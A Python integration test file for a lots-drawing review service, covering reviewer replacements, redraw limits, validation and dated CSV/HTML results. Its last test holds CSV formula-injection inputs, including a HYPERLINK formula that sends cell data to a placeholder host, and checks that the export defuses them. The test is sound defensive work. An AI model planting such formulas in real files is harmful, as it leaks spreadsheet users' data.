"""Repetitions of the draw and the results as of any date, against PostgreSQL and SQLite."""

from __future__ import annotations

import csv
import io

import pytest

from harness.waiting import running
from services.lots.adapters.orm import RepetitionRow
from services.lots.worker import build_parts
from tests.integration.test_lots_draws import count, make_app, new_group


@pytest.fixture
def drawn(database_url, amqp_url):
    """An app whose States may ask for one repetition each, and a drawn group of 40."""
    app = make_app(database_url, amqp_url, max_repetitions=1)
    client = app.test_client()
    group = new_group(client, n=40)
    draw = client.post(f"/groups/{group['id']}/draw", json={"seed": "5eed5eed"}).json
    yield app, draw
    app.extensions["revmod"].engine.dispose()


def first_review(draw) -> tuple[str, str, list[str]]:
    review = draw["reviews"][0]
    return review["state_under_review"], review["reviewing_states"][0], \
        review["reviewing_states"]


def ask(client, draw, **body):
    return client.post(f"/draws/{draw['id']}/repetitions", json=body)


def test_repetition_replaces_one_reviewer_keeps_the_rest_and_publishes(drawn, bus):
    app, draw = drawn
    client = app.test_client()
    state, old, reviewers = first_review(draw)
    answer = ask(client, draw, state_under_review=state, replaced=old, requested_by=state,
                 reason="no common working language")
    assert answer.status_code == 201, answer.json
    rep = answer.json
    assert rep["replacement"] not in reviewers and rep["replacement"] in rep["pool"]
    assert rep["slot"] == "same_region" and rep["request_count"] == 1
    after = client.get(f"/draws/{draw['id']}").json
    assert after["reviews"][1:] == draw["reviews"][1:]
    assert after["reviews"][0]["reviewing_states"] == [rep["replacement"], *reviewers[1:]]
    history = client.get(f"/draws/{draw['id']}/repetitions").json
    assert [(h["replaced"], h["replacement"], h["requested_by"], h["reason"])
            for h in history] == [(old, rep["replacement"], state,
                                   "no common working language")]
    assert client.get(f"/draws/{draw['id']}/verification").json["matches"] is True
    with running(build_parts(app.extensions["revmod"].settings)):
        msgs = bus.received(until=lambda m: any(x["type"] == "DrawRepeated" for x in m))
    repeated = next(m for m in msgs if m["type"] == "DrawRepeated")["payload"]
    assert repeated["replaced"] == old and repeated["replacement"] == rep["replacement"]
    assert repeated["reviewing_states"] == after["reviews"][0]["reviewing_states"]


def test_beyond_the_allowed_repetitions_only_an_exceptional_redraw_with_reason(drawn):
    app, draw = drawn
    client = app.test_client()
    state, old, _ = first_review(draw)
    assert ask(client, draw, state_under_review=state, replaced=old,
               requested_by=state).status_code == 201
    current = client.get(f"/draws/{draw['id']}").json["reviews"][0]["reviewing_states"][0]
    again = dict(state_under_review=state, replaced=current, requested_by=state)
    refused = ask(client, draw, **again)
    assert refused.status_code == 422 and "exceptional" in refused.json["errors"]
    no_reason = ask(client, draw, **again, exceptional=True)
    assert no_reason.status_code == 422 and "reason" in no_reason.json["errors"]
    assert count(app, RepetitionRow) == 1
    granted = ask(client, draw, **again, exceptional=True, reason="conflict of interest")
    assert granted.status_code == 201 and granted.json["exceptional"] is True
    assert granted.json["request_count"] == 2


def test_requests_that_name_the_wrong_states_are_refused_naming_the_field(drawn):
    app, draw = drawn
    client = app.test_client()
    state, old, reviewers = first_review(draw)
    stranger = next(r["state_under_review"] for r in draw["reviews"][1:]
                    if r["state_under_review"] not in reviewers)
    cases = {
        "requested_by": dict(state_under_review=state, replaced=old, requested_by=stranger),
        "replaced": dict(state_under_review=state, replaced=stranger, requested_by=state),
        "state_under_review": dict(state_under_review="ZZZ", replaced=old, requested_by=state),
    }
    for field, body in cases.items():
        answer = ask(client, draw, **body)
        assert answer.status_code == 422, field
        assert answer.content_type == "application/problem+json"
        assert field in answer.json["errors"]
    assert ask(client, draw, state_under_review=state, replaced="X1",
               requested_by=state).status_code == 422
    assert count(app, RepetitionRow) == 0


def test_results_as_of_any_date_show_the_repetitions_in_force_then(drawn):
    app, draw = drawn
    client = app.test_client()
    app.extensions["revmod"].clock.advance(days=30)
    state, old, _ = first_review(draw)
    new = ask(client, draw, state_under_review=state, replaced=old,
              requested_by=state, reason="workload").json["replacement"]

    def rows(as_of):
        answer = client.get(f"/results.csv?as_of={as_of}")
        assert answer.status_code == 200 and answer.mimetype == "text/csv"
        return list(csv.DictReader(io.StringIO(answer.data.decode())))

    assert rows("2020-11-01") == []
    before = [r for r in rows("2020-11-30") if r["state_under_review"] == state]
    after = [r for r in rows("2020-12-31") if r["state_under_review"] == state]
    assert before[0]["reviewing_state"] == old and not before[0]["replaced"]
    assert after[0]["reviewing_state"] == new and after[0]["replaced"] == old
    assert after[0]["in_place_since"] == "2020-12-23" and after[0]["reason"] == "workload"
    html = client.get("/results.html?as_of=2020-12-31")
    assert html.status_code == 200 and html.mimetype == "text/html"
    page = html.data.decode()
    assert "Results of the drawing of lots, updated as of 31 December 2020" in page
    assert f"Replaces {old}" in page and "src=" not in page and "<link" not in page
    assert client.get("/results.csv?as_of=2020-02-31").status_code == 422


def test_results_csv_cells_are_inert_when_free_text_starts_like_a_formula(drawn):
    """A spreadsheet runs a cell that starts with = + - @ (or a tab or carriage return
    before them) as a formula; such text is written behind a single quote."""
    app, draw = drawn
    client = app.test_client()
    reasons = ['=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\t=1",
               "\r=1", "plain reason"]
    for review, reason in zip(draw["reviews"], reasons, strict=False):
        state, old = review["state_under_review"], review["reviewing_states"][0]
        assert ask(client, draw, state_under_review=state, replaced=old, requested_by=state,
                   reason=reason).status_code == 201
    answer = client.get("/results.csv?as_of=2030-01-01")
    rows = csv.DictReader(io.StringIO(answer.data.decode(), newline=""))
    written = {r["reason"] for r in rows}
    assert written == {"", "plain reason", *("'" + r for r in reasons[:-1])}
